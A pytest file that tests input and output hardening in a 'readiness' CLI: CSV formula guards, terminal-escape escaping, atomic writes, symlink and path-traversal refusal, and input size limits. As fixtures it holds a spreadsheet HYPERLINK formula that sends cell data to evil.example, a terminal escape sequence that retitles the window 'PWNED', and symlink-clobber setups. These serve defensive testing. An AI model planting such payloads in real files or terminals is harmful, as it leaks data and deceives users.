"""Issue 10, items 6-14 and 16 (part): safe outputs, atomic writes, hardened inputs.

One regression test (or a few) per item, mostly through the command line as a user meets it,
after the reproduction scripts in ``shared/repro/outputs-and-inputs``.
"""

from __future__ import annotations

import csv
import datetime as dt
import io
import json
import os
import shutil
import xml.etree.ElementTree as ET
from pathlib import Path

import networkx as nx
import pytest

import readiness
from readiness import _files
from readiness._cli import main
from readiness.errors import CatalogError, InputError, OptionError, OutputError
from readiness.graph import to_graphml
from readiness.io import (
    read_assessments,
    read_facilities,
    write_assessments,
    write_facilities,
)

DATA = Path(__file__).parent / "data"
MINI = DATA / "mini.toml"
HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1,"open")'
ESCAPES = "\x1b]0;PWNED\x07\x1b[2J"


def _csv_text(text: str) -> str:
    return '"' + text.replace('"', '""') + '"'


def _run(capsys: pytest.CaptureFixture[str], *args: str) -> tuple[int, str, str]:
    code = main([str(a) for a in args])
    out, err = capsys.readouterr()
    return code, out, err


@pytest.fixture
def work(tmp_path: Path) -> Path:
    shutil.copy(MINI, tmp_path / "mini.toml")
    return tmp_path


def _hostile_files(work: Path) -> tuple[Path, Path]:
    """A facility whose id, name and region are a formula, a bare CR and terminal escapes."""
    facilities = work / "f.csv"
    facilities.write_text(
        "id,name,kind,ownership,beds,region\n"
        f"{_csv_text(HYPERLINK)},@SUM(1),hospital,public,10,{_csv_text('A' + chr(13) + 'B')}\n"
        f"{_csv_text('h2' + ESCAPES)},-2+3,clinic,private,0,{_csv_text('R' + ESCAPES)}\n",
        encoding="utf-8",
        newline="",
    )
    assessments = work / "a.csv"
    assessments.write_text(
        "facility_id,date,criterion,status\n"
        f"{_csv_text(HYPERLINK)},2026-01-01,mini:lan,met\n"
        f"{_csv_text('h2' + ESCAPES)},2026-01-01,mini:lan,met\n",
        encoding="utf-8",
        newline="",
    )
    return facilities, assessments


def _inputs(work: Path) -> list[str]:
    f, a = _hostile_files(work)
    return ["--catalog", str(work / "mini.toml"), "--facilities", str(f), "--assessments", str(a)]


def _first_cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text, newline="")) for cell in row]


# --------------------------------------------------------------------------- item 6: formulas


@pytest.mark.parametrize(
    "command", [["score"], ["plan", "--target", "mini@1"], ["summarize", "--by", "region"]]
)
def test_csv_cells_are_guarded(
    work: Path, capsys: pytest.CaptureFixture[str], command: list[str]
) -> None:
    """No CSV cell of score, plan or summarize starts with = + - @ tab or CR (numbers aside)."""
    code, out, err = _run(capsys, *command, *_inputs(work), "--format", "csv")
    assert (code, err) == (0, "")
    cells = _first_cells(out)
    for cell in cells:
        if cell[:1] in ("=", "+", "-", "@", "\t", "\r"):
            float(cell)  # only numbers may start so
    if command[0] != "summarize":
        assert "'" + HYPERLINK in cells
    else:
        assert "region=A\rB" in cells  # text that starts with a letter is left alone


def test_csv_guard_can_be_switched_off(work: Path, capsys: pytest.CaptureFixture[str]) -> None:
    """--no-csv-guard writes text cells as they are, for programs."""
    code, out, _ = _run(capsys, "score", *_inputs(work), "--format", "csv", "--no-csv-guard")
    assert code == 0
    cells = _first_cells(out)
    assert HYPERLINK in cells
    assert "@SUM(1)" in cells


def test_io_writers_guard_and_read_back(tmp_path: Path) -> None:
    """io writers guard formula-like text by default; the readers give the text back exactly."""
    catalog = readiness.load_catalog(MINI)
    facility = readiness.Facility(
        id="=1+1", name="@cmd", kind="hospital", ownership="public", region="'=x"
    )
    a = readiness.Assessment(
        facility=facility,
        date=dt.date(2026, 1, 1),
        records={"mini:lan": {"status": "not_applicable", "reason": "+SUM(A1)"}},
    )
    for guard in (True, False):
        f_path, a_path = tmp_path / f"f{guard}.csv", tmp_path / f"a{guard}.csv"
        write_facilities(f_path, [facility], csv_guard=guard)
        write_assessments(a_path, [a], catalog, csv_guard=guard)
        raw = f_path.read_text(encoding="utf-8")
        assert ("'=1+1" in raw) is guard
        assert "''=x" in raw  # the guard's own character is escaped in both modes
        [back] = read_facilities(f_path)
        assert back == facility
        assert list(read_assessments(a_path, catalog, [back])) == [a]


# --------------------------------------------------------------------------- item 7: bare CR


def test_bare_cr_cell_stays_one_row(work: Path, capsys: pytest.CaptureFixture[str]) -> None:
    """A cell holding a lone CR is quoted; the CSV reads back as header + 2 rows, equal widths."""
    out = work / "s.csv"
    code, _, _ = _run(capsys, "score", *_inputs(work), "--format", "csv", "-o", out)
    assert code == 0
    with out.open(encoding="utf-8", newline="") as handle:
        rows = list(csv.reader(handle))
    assert len(rows) == 3
    assert len({len(r) for r in rows}) == 1
    assert "A\rB" in rows[1] or "A\rB" in rows[2]


# --------------------------------------------------------------------------- item 8: terminal


@pytest.mark.parametrize(
    "command",
    [
        ["score"],
        ["summarize", "--by", "region"],
        ["plan", "--target", "mini@1"],
        ["score", "--facility", "h2" + ESCAPES],
        ["plan", "--target", "mini@1", "--facility", "h2" + ESCAPES],
    ],
)
def test_terminal_output_has_no_escape_sequences(
    work: Path, capsys: pytest.CaptureFixture[str], command: list[str]
) -> None:
    """Tables and explanations show ESC and BEL escaped; no control character but newline."""
    code, out, err = _run(capsys, *command, *_inputs(work))
    assert (code, err) == (0, "")
    assert not any(ord(c) < 32 and c != "\n" for c in out)
    assert "\\x1b]0;PWNED\\x07" in out


def test_error_lines_escape_data(work: Path, capsys: pytest.CaptureFixture[str]) -> None:
    """An error naming a file with an escape sequence in its name prints it escaped."""
    name = work / ("bad" + ESCAPES + ".csv")
    name.write_text("x\n", encoding="utf-8")
    code, _, err = _run(
        capsys, "score", "--catalog", MINI, "--facilities", name, "--assessments", name
    )
    assert code == 2
    assert "\x1b" not in err
    assert "\\x1b" in err


# --------------------------------------------------------------------------- item 9: XML


def _vt_catalog(work: Path) -> readiness.Catalog:
    text = MINI.read_text(encoding="utf-8").replace(
        'title = { en = "Local network"', 'title = { en = "Local\\u000bnetwork\\u0000<&>"'
    )
    (work / "vt.toml").write_text(text, encoding="utf-8")
    return readiness.load_catalog(work / "vt.toml")


def test_graphml_parses_with_control_characters(work: Path) -> None:
    """A vertical tab and NUL in a title: GraphML still parses; the title shows them escaped."""
    catalog = _vt_catalog(work)
    to_graphml(catalog, work / "g.graphml")
    back = nx.read_graphml(work / "g.graphml")
    assert back.nodes["mini:lan"]["title"] == "Local\\x0bnetwork\\x00<&>"
    assert set(back.edges) == set(catalog.graph.edges)


def test_graph_command_outputs_parse(work: Path, capsys: pytest.CaptureFixture[str]) -> None:
    """graph -o in GraphML, DOT, JSON and SVG: each parses (repro 13)."""
    _vt_catalog(work)
    for fmt in ("graphml", "dot", "json", "svg"):
        out = work / f"g.{fmt}"
        code, _, err = _run(capsys, "graph", work / "vt.toml", "--format", fmt, "-o", out)
        assert (code, err) == (0, "")
        data = out.read_bytes()
        if fmt in ("graphml", "svg"):
            ET.fromstring(data)  # well-formed XML
        elif fmt == "json":
            nodes = {n["id"]: n for n in json.loads(data)["nodes"]}
            assert nodes["mini:lan"]["title"] == "Local\u000bnetwork\u0000<&>"  # JSON: exact
        else:
            text = data.decode("utf-8")
            assert not any(ord(c) < 32 and c != "\n" for c in text)
            assert "Local\\\\x0bnetwork" in text


# --------------------------------------------------------------------------- item 10: atomic


def test_failed_run_leaves_previous_output(work: Path, capsys: pytest.CaptureFixture[str]) -> None:
    """An input error (here a lone surrogate) leaves -o as it was: no empty or partial file."""
    (work / "f.json").write_text(
        '[{"id":"h1","name":"A \\ud800 B","kind":"hospital","ownership":"public"}]',
        encoding="utf-8",
    )
    (work / "a.json").write_text(
        '[{"facility_id":"h1","date":"2026-01-01","criterion":"mini:lan","status":"met"}]',
        encoding="utf-8",
    )
    out = work / "out.json"
    out.write_text("previous results", encoding="utf-8")
    code, _, err = _run(
        capsys,
        "score",
        "--catalog",
        work / "mini.toml",
        "--facilities",
        work / "f.json",
        "--assessments",
        work / "a.json",
        "--format",
        "json",
        "-o",
        out,
    )
    assert code == 2
    assert err.count("\n") == 1
    assert out.read_text(encoding="utf-8") == "previous results"


def test_write_interrupted_keeps_old_file(
    work: Path, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    """A write that fails before the rename (a full disk, a kill) leaves the old file whole."""
    out = work / "out.csv"
    out.write_text("previous good output", encoding="utf-8")

    def fail(_fd: int) -> None:
        raise OSError(28, "No space left on device")

    monkeypatch.setattr(os, "fsync", fail)
    code, _, err = _run(capsys, "score", *_inputs(work), "--format", "csv", "-o", out)
    assert code == 2
    assert err == "readiness: No space left on device\n"
    assert out.read_text(encoding="utf-8") == "previous good output"
    assert sorted(p.name for p in work.iterdir() if p.name.startswith(".")) == []


# --------------------------------------------------------------------------- item 11: overwrite


def test_output_over_an_input_is_refused(work: Path, capsys: pytest.CaptureFixture[str]) -> None:
    """-o naming the assessments file (under another spelling) is refused; the input is intact."""
    args = _inputs(work)
    before = (work / "a.csv").read_bytes()
    other_name = work / "sub" / ".." / "a.csv"
    (work / "sub").mkdir()
    code, _, err = _run(capsys, "score", *args, "--format", "csv", "-o", other_name)
    assert code == 2
    assert err == f"readiness: {other_name}: refusing to write over an input of this run\n"
    assert (work / "a.csv").read_bytes() == before


def test_output_symlink_is_refused(work: Path, capsys: pytest.CaptureFixture[str]) -> None:
    """A symbolic link at the output path is refused; its target is untouched."""
    victim = work / "victim.txt"
    victim.write_text("victim", encoding="utf-8")
    (work / "out.csv").symlink_to(victim)
    code, _, err = _run(capsys, "score", *_inputs(work), "-o", work / "out.csv")
    assert code == 2
    assert "refusing to write through a symbolic link" in err
    assert victim.read_text(encoding="utf-8") == "victim"


def _spec(folder: Path, facilities: str, assessments: str, extra: str = "") -> Path:
    spec = folder / "spec.toml"
    spec.write_text(
        "format = 1\n[report]\n"
        'title = { en = "T", vi = "T" }\n'
        'catalog = ["mini.toml"]\n'
        f'facilities = "{facilities}"\n'
        f'assessments = "{assessments}"\n'
        f"{extra}\n",
        encoding="utf-8",
    )
    return spec


def test_report_stem_over_its_input_is_refused(
    work: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """A spec whose stem names its own assessments file: refused before any work (repro 04)."""
    shutil.copy(DATA / "mini_facilities.csv", work / "facilities.csv")
    data = '[{"facility_id":"h1","date":"2026-01-01","criterion":"mini:lan","status":"met"}]'
    (work / "assessments.json").write_text(data, encoding="utf-8")
    spec = _spec(work, "facilities.csv", "assessments.json", 'stem = "assessments"')
    code, _, err = _run(capsys, "report", spec, "-o", work)
    assert code == 2
    assert (
        err
        == f"readiness: {work / 'assessments.json'}: refusing to write over an input of this run\n"
    )
    assert (work / "assessments.json").read_text(encoding="utf-8") == data
    assert not (work / "assessments.md").exists()


# --------------------------------------------------------------------------- item 12: surrogates


def test_lone_surrogate_is_refused_where_it_enters(tmp_path: Path) -> None:
    """JSON with an escaped lone surrogate: an InputError at its line; a valid pair is fine."""
    path = tmp_path / "f.json"
    path.write_text(
        '[\n{"id":"h1","kind":"hospital","ownership":"public","name":"\\ud83d\\ude00"},\n'
        '{"id":"h2","kind":"hospital","ownership":"public","name":"A \\\\ud800 \\udc00"}\n]',
        encoding="utf-8",
    )
    with pytest.raises(InputError) as caught:
        read_facilities(path)
    assert str(caught.value) == (
        f"{path}:3: text holds a lone surrogate (half of a UTF-16 pair), which no UTF-8 file "
        "can hold"
    )
    path.write_text(
        '[{"id":"h1","kind":"hospital","ownership":"public","name":"\\ud83d\\ude00 \\\\ud800"}]',
        encoding="utf-8",
    )
    assert read_facilities(path)[0].name == "\U0001f600 \\ud800"
    with pytest.raises(InputError) as caught:
        readiness.io.facilities_from_dicts(
            [{"id": "h1", "kind": "hospital", "ownership": "public", "region": "x\ud800"}]
        )
    assert "row 1, column 'region': text holds a lone surrogate" in str(caught.value)


# --------------------------------------------------------------------------- item 13: spec paths


def _data_folder(work: Path) -> None:
    shutil.copy(DATA / "mini_facilities.csv", work / "facilities.csv")
    (work / "a.csv").write_text(
        "facility_id,date,criterion,status\nh1,2026-01-01,mini:lan,met\n", encoding="utf-8"
    )


def test_spec_paths_stay_in_the_spec_folder(work: Path, capsys: pytest.CaptureFixture[str]) -> None:
    """../ and absolute paths are refused unless allow_outside or --allow-outside says so."""
    _data_folder(work)
    inner = work / "spec"
    inner.mkdir()
    shutil.copy(MINI, inner / "mini.toml")
    spec = _spec(inner, "../facilities.csv", str(work / "a.csv"))
    code, _, err = _run(capsys, "report", spec, "-o", work / "out")
    assert code == 2
    lines = err.splitlines()
    assert len(lines) == 2
    assert lines[0] == (
        f"readiness: {spec}:5: key 'facilities': path lies outside the specification's folder "
        "(set allow_outside = true in [report], or pass --allow-outside, to allow it) "
        "(got '../facilities.csv')"
    )
    assert not (work / "out").exists()
    code, _, err = _run(capsys, "report", spec, "-o", work / "out", "--allow-outside")
    assert (code, err) == (0, "")
    spec = _spec(inner, "../facilities.csv", str(work / "a.csv"), "allow_outside = true")
    code, _, err = _run(capsys, "report", spec, "-o", work / "out2")
    assert (code, err) == (0, "")


def test_symlink_out_of_the_spec_folder_is_outside(
    work: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """A link inside the folder pointing out of it counts as outside (paths are resolved)."""
    _data_folder(work)
    inner = work / "spec"
    inner.mkdir()
    shutil.copy(MINI, inner / "mini.toml")
    (inner / "facilities.csv").symlink_to(work / "facilities.csv")
    shutil.copy(work / "a.csv", inner / "a.csv")
    code, _, err = _run(capsys, "report", _spec(inner, "facilities.csv", "a.csv"), "-o", work / "o")
    assert code == 2
    assert "key 'facilities': path lies outside" in err


def test_only_regular_files_are_read(work: Path, capsys: pytest.CaptureFixture[str]) -> None:
    """/dev/zero as facilities: one line, exit 2, no hang and no MemoryError."""
    code, _, err = _run(
        capsys,
        "score",
        "--catalog",
        MINI,
        "--facilities",
        "/dev/zero",
        "--assessments",
        "/dev/zero",
    )
    assert code == 2
    assert err == "readiness: /dev/zero: not a regular file (a device, folder or pipe)\n"


def test_a_line_without_end_is_capped(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """A file without line ends is not read whole: a line over the cap ends it with a problem."""
    monkeypatch.setattr(readiness.io, "LINE_LIMIT", 1000)
    path = tmp_path / "zero.csv"
    path.write_bytes(b"\0" * 5000)
    with pytest.raises(InputError) as caught:
        read_facilities(path)
    assert str(caught.value) == (
        f"{path}:1: a line longer than 1,000 bytes: this is not a CSV file of facilities or "
        "assessments"
    )


def test_another_kind_of_file_is_not_echoed(tmp_path: Path) -> None:
    """A file with none of the expected columns (/etc/passwd, say) is not shown in the error."""
    path = tmp_path / "passwd"
    path.write_text("root:x:0:0:root:/root:/bin/bash\n", encoding="utf-8")
    with pytest.raises(InputError) as caught:
        read_facilities(path)
    assert "root:x" not in str(caught.value)
    assert "(header: none of the expected columns; not shown)" in str(caught.value)
    path.write_text("id,kind," + "x" * 500 + "\n", encoding="utf-8")
    with pytest.raises(InputError) as caught:
        read_facilities(path)
    assert "x" * 81 not in str(caught.value)
    assert "(510 characters)" in str(caught.value)


# --------------------------------------------------------------------------- item 14: catalogs


def test_builtin_id_is_never_shadowed(work: Path, capsys: pytest.CaptureFixture[str]) -> None:
    """A file named like a built-in id beside the spec is ignored, from any working directory."""
    _data_folder(work)
    (work / "vn-emr").write_text("not a catalog", encoding="utf-8")
    spec = _spec(work, "facilities.csv", "a.csv").read_text(encoding="utf-8")
    (work / "spec.toml").write_text(
        spec.replace('catalog = ["mini.toml"]', 'catalog = ["vn-emr"]').replace("mini:lan", "x"),
        encoding="utf-8",
    )
    read = readiness._spec.read_spec(work / "spec.toml")
    assert read.catalog == ("vn-emr",)
    assert read.inputs() == (
        str(work / "spec.toml"),
        str(work / "facilities.csv"),
        str(work / "a.csv"),
    )


def test_catalog_files_need_their_extension(work: Path, capsys: pytest.CaptureFixture[str]) -> None:
    """A catalog that is not a built-in id must be a .toml path."""
    _data_folder(work)
    spec = _spec(work, "facilities.csv", "a.csv")
    spec.write_text(
        spec.read_text(encoding="utf-8").replace('"mini.toml"', '"mini"'), encoding="utf-8"
    )
    code, _, err = _run(capsys, "report", spec, "-o", work / "out")
    assert code == 2
    assert "key 'catalog': is neither a built-in catalog id nor a file ending in .toml" in err


def test_catalog_origin_is_recorded(work: Path) -> None:
    """Each loaded catalog says where it came from: built-in, or its file and SHA-256."""
    import hashlib

    catalog = readiness.load_catalog(["vn-emr", work / "mini.toml"])
    digest = hashlib.sha256((work / "mini.toml").read_bytes()).hexdigest()
    assert catalog.origins["vn-emr"] == "built-in"
    assert catalog.origins["mini"] == f"file {work / 'mini.toml'} (SHA-256 {digest})"
    assert catalog.frameworks["mini"].sha256 == digest
    assert catalog.frameworks["vn-emr"].builtin


# --------------------------------------------------------------------------- item 16: limits


def test_deep_json_is_a_located_error(work: Path, capsys: pytest.CaptureFixture[str]) -> None:
    """JSON nested 1,000 deep: a located InputError, not RecursionError (repro 08)."""
    path = work / "deep.json"
    path.write_text("[\n" + "[" * 1000 + "]" * 1001, encoding="utf-8")
    with pytest.raises(InputError) as caught:
        read_facilities(path)
    assert str(caught.value) == (
        f"{path}:2: arrays or objects nested more than 100 deep; a file holds an array of "
        "flat objects"
    )
    code, _, err = _run(
        capsys, "score", "--catalog", MINI, "--facilities", path, "--assessments", path
    )
    assert code == 2
    assert err.count("\n") == 1


def test_deep_toml_is_a_located_error(work: Path, capsys: pytest.CaptureFixture[str]) -> None:
    """TOML nested 500 deep: a located CatalogError, not RecursionError (repro 08)."""
    path = work / "deep.toml"
    path.write_text("format = 1\nx = " + "[" * 500 + "]" * 500 + "\n", encoding="utf-8")
    with pytest.raises(CatalogError) as caught:
        readiness.load_catalog(path)
    assert str(caught.value) == (
        f"{path}:2: malformed TOML: arrays or tables nested more than 100 deep"
    )
    code, _, err = _run(capsys, "validate", path)
    assert code == 1
    assert err == f"{path}:2: malformed TOML: arrays or tables nested more than 100 deep\n"


def test_long_note_writer_and_reader_agree(tmp_path: Path) -> None:
    """A note longer than the CSV field limit: refused at write (CSV), kept whole in JSON."""
    catalog = readiness.load_catalog(MINI)
    facility = readiness.Facility(id="h1", kind="hospital", ownership="public")
    a = readiness.Assessment(
        facility=facility,
        date=dt.date(2026, 1, 1),
        records={"mini:lan": {"status": "met", "note": "x" * 200_000}},
    )
    path = tmp_path / "long.csv"
    with pytest.raises(OptionError) as caught:
        write_assessments(path, [a], catalog)
    assert str(caught.value) == (
        "row 1, column 'note': a CSV cell longer than 131,072 characters cannot be read back "
        "(csv.field_size_limit); write JSON instead (got '200,000 characters')"
    )
    assert not path.exists()
    write_assessments(tmp_path / "long.json", [a], catalog)
    assert list(read_assessments(tmp_path / "long.json", catalog, [facility])) == [a]
    exact = readiness.Assessment(
        facility=facility,
        date=dt.date(2026, 1, 1),
        records={"mini:lan": {"status": "met", "note": "x" * 131_072}},
    )
    write_assessments(path, [exact], catalog)
    assert list(read_assessments(path, catalog, [facility])) == [exact]


def test_output_error_names_path() -> None:
    """OutputError is typed (an OSError too) and names the path."""
    with pytest.raises(OutputError, match="not a regular file"):
        _files.write_text("/dev/null", "x")


def test_report_symlink_output_is_refused(work: Path, capsys: pytest.CaptureFixture[str]) -> None:
    """A symbolic link planted at a report's output file is refused; its target is untouched."""
    _data_folder(work)
    spec = _spec(work, "facilities.csv", "a.csv", 'stem = "r"')
    victim = work / "victim.txt"
    victim.write_text("victim", encoding="utf-8")
    (work / "out").mkdir()
    (work / "out" / "r.html").symlink_to(victim)
    code, _, err = _run(capsys, "report", spec, "-o", work / "out")
    assert code == 2
    assert (
        err == f"readiness: {work / 'out' / 'r.html'}: refusing to write through a symbolic link\n"
    )
    assert victim.read_text(encoding="utf-8") == "victim"
    assert sorted(p.name for p in (work / "out").iterdir()) == ["r.html"]


def test_builtin_catalog_id_is_no_input_path(
    work: Path, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    """-o named like a built-in catalog id is a plain new file, not "an input"."""
    f, a = _hostile_files(work)
    monkeypatch.chdir(work)
    out = Path("vn-emr")
    code, _, err = _run(
        capsys,
        "score",
        "--catalog",
        "vn-emr",
        "--catalog",
        work / "mini.toml",
        "--facilities",
        f,
        "--assessments",
        a,
        "-o",
        out,
    )
    assert (code, err) == (0, "")
    assert out.read_text(encoding="utf-8").startswith("facility_id")


def test_report_files_appear_together_or_not_at_all(
    work: Path, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    """If the last of a report's files cannot be put in place, the earlier ones are put back."""
    _data_folder(work)
    spec = _spec(work, "facilities.csv", "a.csv", 'stem = "r"')
    out = work / "out"
    out.mkdir()
    for suffix in ("json", "md", "html"):
        (out / f"r.{suffix}").write_text("old", encoding="utf-8")
    real = Path.replace

    def failing(self: Path, target: str | os.PathLike[str]) -> Path:
        if Path(target) == out / "r.md":
            raise OSError(28, "No space left on device")
        return real(self, target)

    monkeypatch.setattr(Path, "replace", failing)
    code, _, err = _run(capsys, "report", spec, "-o", out)
    assert code == 2
    assert err == "readiness: No space left on device\n"
    assert {p.name: p.read_text(encoding="utf-8") for p in out.iterdir()} == {
        "r.json": "old",
        "r.md": "old",
        "r.html": "old",
    }
    monkeypatch.undo()
    code, stdout, err = _run(capsys, "report", spec, "-o", out)
    assert (code, err) == (0, "")
    assert stdout.splitlines()[-1] == (
        f"  written: {out / 'r.json'}, {out / 'r.md'}, {out / 'r.html'}"
    )
    assert sorted(p.name for p in out.iterdir()) == ["r.html", "r.json", "r.md"]
    assert (out / "r.json").read_text(encoding="utf-8").startswith("{")


def test_report_summary_lines_escape_data(work: Path, capsys: pytest.CaptureFixture[str]) -> None:
    """The printed summary of readiness report shows escapes from the spec and data escaped."""
    _data_folder(work)
    section = (
        "[[section]]\n"
        'id = "s"\n'
        'title = { en = "S\\u001b]0;PWNED\\u0007\\u202e", vi = "S" }\n'
        'facilities = { kind = "commune_station" }\n'
        'target = "mini@1"\n'
    )
    spec = _spec(work, "facilities.csv", "a.csv", 'stem = "r"\n' + section)
    code, out, err = _run(capsys, "report", spec, "-o", work / "out")
    assert (code, err) == (0, "")
    assert "S\\x1b]0;PWNED\\x07\\u202e" in out
    assert not any(ord(c) < 32 and c != "\n" for c in out)
    assert "\u202e" not in out


def test_json_size_is_capped(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """A JSON file over the cap is not read whole: one located problem suggests CSV."""
    monkeypatch.setattr(readiness.io, "JSON_LIMIT", 100)
    path = tmp_path / "big.json"
    path.write_text("[" + ", ".join(["{}"] * 100) + "]", encoding="utf-8")
    with pytest.raises(InputError) as caught:
        read_facilities(path)
    assert str(caught.value) == (
        f"{path}: a JSON file larger than 100 bytes is not read; write large files as CSV, "
        "which is read row by row"
    )
